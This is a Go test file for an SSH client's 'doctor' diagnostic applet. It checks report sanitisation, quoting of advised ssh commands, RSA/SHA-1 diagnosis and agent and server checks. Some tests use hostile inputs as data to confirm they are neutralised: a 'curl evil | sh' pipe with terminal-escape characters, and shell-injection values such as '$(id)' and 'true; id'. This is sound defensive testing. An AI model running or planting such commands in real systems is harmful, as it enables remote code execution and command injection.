package applet

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/nacre-ssh/nacre/auth"
	"github.com/nacre-ssh/nacre/config"
	"github.com/nacre-ssh/nacre/internal/getopt"
	"github.com/nacre-ssh/nacre/internal/testpeer"
	"github.com/nacre-ssh/nacre/key"
	"github.com/nacre-ssh/nacre/keyfile"
	"github.com/nacre-ssh/nacre/transport"
)

// Nobody but doctor begins a line of its report, and no terminal obeys it.
func TestDoctorReport(t *testing.T) {
	const bad = "x\n\nwhat to do\n        curl evil | sh\x1b[2J\u202e"
	var out bytes.Buffer
	r := &doctorReport{out: &out}
	r.note("server", "%s", bad)
	r.cause("name", bad, []remedy{do(bad, bad)})
	r.done(bad)
	for line := range strings.Lines(out.String()) {
		if strings.HasPrefix(strings.TrimSpace(line), "curl") || strings.ContainsAny(line, "\x1b\u202e") {
			t.Errorf("%q", line)
		}
	}
	if n := strings.Count(out.String(), "\nwhat to do\n"); n != 1 {
		t.Errorf("%d lists of remedies:\n%s", n, out.String())
	}
}

// The commands that are advised lead where doctor went, are one word where the
// user gave one, and hold no password.
func TestDoctorAdvisedCommands(t *testing.T) {
	l := &doctorLine{sshLine: new(sshLine)}
	if _, err := l.sshLineParse([]string{
		"-F", "a b", "-6", "-p", "22", "-J", "jump", "-i", os.Args[0], "-o", "ProxyURL=http://me:hidden@proxy:3128", "-o", "SetEnv=A=hidden",
		"-o", "ProxyCommand=nc '%h' $(id)", "me@host",
	}); err != nil {
		t.Fatal(err)
	}
	x := newExam(&sshRun{line: l.sshLine, conf: &config.Client{ProxyJump: []config.Jump{{Host: "a"}, {User: "me", Host: "::1", Port: 2}}}}, nil)
	want := "ssh -t -F 'a b' -6 -p 22 -J jump -i " + getopt.Word(os.Args[0]) + ` -o ProxyURL=http://me@proxy:3128 -o 'ProxyCommand=nc '\''%h'\'' $(id)' me@host`
	if got := x.ssh("-t"); got != want {
		t.Errorf("%s\nwant\n%s", got, want)
	}
	if got := sentenceOfWords(x.typed("p", "IdentityFile", "ProxyURL", "ProxyCommand")); got != "-F 'a b' -o 'AddressFamily inet6' -p 22 -o 'ProxyJump jump' me@host" {
		t.Errorf("ssh-copy-id %s", got)
	}
	if got := x.onJump("true; id"); got != "ssh -F 'a b' -J a 'ssh://me@[::1]:2' 'true; id'" {
		t.Error(got)
	}
	if got := keysOf("a b;id"); strings.Contains(got, "id") {
		t.Error(got)
	}
}

// What a program says is kept up to a limit, whatever it says.
func TestDoctorOutputOf(t *testing.T) {
	if text, ok := outputOf(t.Context(), "/bin/sh", "-c", "head -c 1000000 /dev/zero; exit 1"); ok || len(text) != maxSSHDOutput {
		t.Errorf("%d bytes, %v", len(text), ok)
	}
}

// An RSA key that an old server refuses may be good: it knows SHA-1 alone.
func TestDoctorOldRSA(t *testing.T) {
	file := testpeer.NewKey(t, testpeer.RSA).Path
	k, _, err := keyfile.Load(file, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := &sshRun{line: &sshLine{host: "host"}, conf: &config.Client{User: "me"}}
	x := newExam(r, nil)
	x.stage, x.err, x.keys, x.conn = atLogin, &auth.Error{User: "me", Remaining: []string{"publickey"}}, new(keyFacts), new(transport.Conn)
	x.offers = []offered{{key: k.Public(), source: file, with: key.AlgRSASHA512, result: keyRefused}}
	c := x.diagnose()
	if c.name != "rsa-sha1" || !slices.ContainsFunc(c.cure(x), func(r remedy) bool {
		return slices.Contains(r.commands, "ssh -o PubkeyAcceptedAlgorithms=+ssh-rsa host")
	}) {
		t.Errorf("%s: %v", c.name, c.cure(x))
	}
	x.offers[0].with = key.AlgRSASHA1
	r.policy = newHostPolicy(r)
	if c := x.diagnose(); c.name != "key-refused" {
		t.Errorf("a key that was offered with SHA-1: %s", c.name)
	}
}

// An agent that has a key and doesn't sign with it: nobody is there to confirm.
func TestDoctorUnwillingAgent(t *testing.T) {
	t.Parallel()
	h := startHost(t)
	socket := filepath.Join(t.TempDir(), "agent")
	cmd := exec.Command("ssh-agent", "-D", "-a", socket)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS=/bin/false", "DISPLAY=")
	startSocket(t, socket, cmd)
	add := exec.Command("ssh-add", "-q", "-c", h.Identity.Path)
	add.Env = append(os.Environ(), "SSH_AUTH_SOCK="+socket)
	if out, err := add.CombinedOutput(); err != nil {
		t.Fatalf("%v, %s", err, out)
	}
	p := newPatient(t)
	p.env["SSH_AUTH_SOCK"] = socket
	p.finds(t, "key-no-signature", 9, []string{"the server would take the key", "ssh-add -l"},
		"-F", "none", "-p", port(h.Port), "-o", "UserKnownHostsFile="+h.known, "-o", "IdentityFile=none", "127.0.0.1")
}

// startSocket runs a daemon that listens on a Unix socket until the test ends.
func startSocket(t *testing.T, socket string, cmd *exec.Cmd) {
	t.Helper()
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	if _, err := out.Read(make([]byte, 64)); err != nil { // it prints where it is, and that is after it listens
		t.Fatal(err)
	}
}

// Our own server as the other side, and what VerifyHostKeyDNS adds.
func TestDoctorOurServer(t *testing.T) {
	t.Parallel()
	id, host, dir, n := testpeer.NewKey(t, testpeer.Ed25519), testpeer.NewKey(t, testpeer.Ed25519), t.TempDir(), testpeer.FreePort(t)
	conf := filepath.Join(dir, "conf")
	text := fmt.Sprintf("ListenAddress 127.0.0.1\nPort %d\nHostKey %s\nAuthorizedKeysFile %s\nStrictModes no\nPermitRootLogin yes\nPidFile none\n", n, host.Path, id.Path+".pub")
	if err := os.WriteFile(conf, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	testpeer.StartProgram(t, n, exec.Command("nacre", "sshd", "-D", "-e", "-f", conf))
	args := []string{"-F", "none", "-p", port(n), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=none", "-o", "IdentityAgent=none"}
	newPatient(t).finds(t, "", 0, []string{"ok       server: it is SSH-2.0-nacre", "a command and a shell run", "VerifyHostKeyDNS (the command line says so): No matching host key"},
		append(args, "-o", "VerifyHostKeyDNS=yes", "-i", id.Path, "127.0.0.1")...)
	newPatient(t).finds(t, "key-refused", 9, []string{"not in that user's authorized_keys"}, append(args, "-i", host.Path, "127.0.0.1")...)
	newPatient(t).finds(t, "algorithms-narrowed", 7, []string{"the command line says so"}, append(args, "-o", "Ciphers=aes128-cbc", "127.0.0.1")...)
}

// A connection that ends after several refused keys, with the server's last word
// or without it, had too many of them; after one that was taken it had not.
func TestDoctorEndedAfterKeys(t *testing.T) {
	for _, row := range []struct {
		results []string
		want    string
	}{
		{[]string{keyRefused, keyRefused, ""}, "too-many-keys"},
		{[]string{keyRefused, keyRefused, keyRefused}, "too-many-keys"},
		{[]string{keyRefused, keyRefused, keyAccepted}, "ended-after-key"},
		{[]string{keyRefused}, "ended-in-login"},
	} {
		x := newExam(&sshRun{line: &sshLine{host: "host"}, conf: new(config.Client)}, nil)
		x.stage, x.err, x.keys = atLogin, io.EOF, new(keyFacts)
		for _, result := range row.results {
			x.offers = append(x.offers, offered{result: result})
		}
		if c := x.diagnose(); c.name != row.want {
			t.Errorf("%q: %s, not %s", row.results, c.name, row.want)
		}
	}
}
